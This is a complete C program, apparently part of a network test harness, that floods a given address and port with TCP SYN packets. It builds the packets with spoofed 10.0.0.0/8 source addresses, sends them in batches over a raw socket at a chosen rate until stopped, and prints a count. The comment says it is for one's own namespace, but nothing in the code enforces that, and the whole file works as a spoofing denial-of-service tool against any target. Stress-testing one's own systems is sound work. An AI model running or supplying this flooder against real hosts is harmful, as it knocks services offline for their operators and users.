/*
 * syn-flood --to ADDRESS --port PORT [--pps RATE]: TCP SYNs from sources that nobody has, 10.0.0.0/8 drawn by a seeded
 * generator, RATE a second (default 50,000), until SIGTERM. For a namespace of one's own: it sends by a raw socket. Prints
 * how many, as JSON.
 */
#include "peer.h"

#include <arpa/inet.h>
#include <getopt.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

enum { BATCH = 64 };

static uint32_t draw(void) {
  static uint32_t x = 0x9e3779b9;
  x ^= x << 13;
  x ^= x >> 17;
  x ^= x << 5;
  return x;
}

static uint16_t checksum(const void *bytes, size_t length, uint32_t sum) {
  const uint8_t *at = bytes;
  for (; length >= 2; at += 2, length -= 2) sum += (uint32_t)(at[0] << 8 | at[1]);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

struct segment {
  struct iphdr ip;
  struct tcphdr tcp;
};

/* The IP header's checksum is the kernel's to fill in. */
static void fill(struct segment *s, struct in_addr to, uint16_t port) {
  const uint32_t source = 10u << 24 | (draw() & 0xffffff);
  memset(s, 0, sizeof *s);
  s->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(sizeof *s),
                         .saddr = htonl(source), .daddr = to.s_addr};
  s->tcp.source = htons((uint16_t)(1024 + draw() % 60000));
  s->tcp.dest = htons(port);
  s->tcp.seq = draw();
  s->tcp.doff = 5;
  s->tcp.syn = 1;
  s->tcp.window = htons(0xffff);
  const uint32_t destination = ntohl(to.s_addr);
  s->tcp.check = checksum(&s->tcp, sizeof s->tcp, (source >> 16) + (source & 0xffff) + (destination >> 16) +
                                                      (destination & 0xffff) + IPPROTO_TCP + sizeof s->tcp);
}

int main(int argc, char **argv) {
  struct in_addr to = {0};
  uint32_t port = 0;
  uint64_t pps = 50000;
  static const struct option options[] = {{"to", required_argument, 0, 't'},
                                          {"port", required_argument, 0, 'p'},
                                          {"pps", required_argument, 0, 'r'},
                                          {0, 0, 0, 0}};
  for (int option; (option = getopt_long(argc, argv, "", options, NULL)) != -1;) {
    switch (option) {
      case 't': if (inet_pton(AF_INET, optarg, &to) != 1) to.s_addr = 0; break;
      case 'p': port = (uint32_t)atoi(optarg); break;
      case 'r': pps = strtoull(optarg, NULL, 10); break;
      default: return 2;
    }
  }
  if (!to.s_addr || !port || !pps) {
    fprintf(stderr, "usage: syn-flood --to ADDRESS --port PORT [--pps RATE]\n");
    return 2;
  }
  stop_on_signals();
  int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) fail("raw socket");

  static struct segment segments[BATCH];
  struct mmsghdr messages[BATCH] = {0};
  struct iovec iov[BATCH];
  struct sockaddr_in name = {.sin_family = AF_INET, .sin_addr = to};
  for (int i = 0; i < BATCH; i++) {
    iov[i] = (struct iovec){&segments[i], sizeof segments[i]};
    messages[i].msg_hdr =
        (struct msghdr){.msg_name = &name, .msg_namelen = sizeof name, .msg_iov = &iov[i], .msg_iovlen = 1};
  }
  uint64_t sent = 0, start = now_ns();
  while (!stopped) {
    for (int i = 0; i < BATCH; i++) fill(&segments[i], to, (uint16_t)port);
    int done = sendmmsg(fd, messages, BATCH, 0);
    if (done < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) fail("send");
    if (done > 0) sent += (uint64_t)done;
    uint64_t due = start + sent * 1000000000u / pps;
    sleep_until(due);
  }
  printf("{\"sent\":%llu}\n", (unsigned long long)sent);
  return 0;
}
